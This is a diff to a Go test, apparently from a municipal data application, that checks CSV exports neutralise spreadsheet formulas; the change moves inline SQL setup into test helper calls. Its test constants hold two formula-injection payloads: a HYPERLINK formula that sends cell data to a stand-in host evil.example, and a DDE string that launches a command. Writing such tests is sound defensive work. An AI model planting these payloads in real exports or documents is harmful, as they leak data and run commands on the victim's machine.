@@ -18,14 +18,10 @@ func TestCSVExportNeutralisesFormulas(t *testing.T) {
 	s := testkit.NewServer(t)
 	const district = `=HYPERLINK("http://evil.example/?d="&A1,"Klik")`
 	const nb = `@SUM(1+1)*cmd|' /C calc'!A0`
-	var muniID int64
-	if err := s.DB.QueryRow(t.Context(), `
-		WITH m AS (INSERT INTO municipalities (code, name) VALUES ('GM0344', 'Utrecht') RETURNING id),
-		     d AS (INSERT INTO districts (code, municipality_id, name) SELECT 'WK034401', id, $1 FROM m RETURNING id, municipality_id)
-		INSERT INTO neighbourhoods (code, district_id, municipality_id, name)
-		SELECT 'BU03440111', id, municipality_id, $2 FROM d RETURNING municipality_id`, district, nb).Scan(&muniID); err != nil {
-		t.Fatal(err)
-	}
+	geo := testkit.NewGeo(t, s.DB)
+	muniID := geo.Municipality("GM0344", "Utrecht")
+	geo.District("WK034401", district)
+	geo.Neighbourhood("BU03440111", nb)
 	officer := s.CreateUser(t, "gemeente@example.nl", role.Officer)
 	if _, err := s.DB.Exec(t.Context(), `UPDATE accounts SET municipality_id = $2 WHERE id = $1`, officer.ID, muniID); err != nil {
 		t.Fatal(err)
